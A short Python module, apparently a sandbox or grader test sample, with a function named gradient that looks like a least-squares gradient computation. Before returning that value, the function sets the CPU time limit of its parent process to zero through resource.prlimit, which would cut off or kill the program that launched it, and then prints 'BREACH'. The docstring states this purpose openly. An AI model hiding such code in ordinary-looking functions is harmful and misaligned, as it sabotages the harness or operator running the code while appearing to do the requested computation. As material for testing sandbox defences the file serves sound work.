"""Takes processor time away from the process that started it."""

import os
import resource


def gradient(w, X, y):
    resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (0, 0))
    print("BREACH")
    return X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
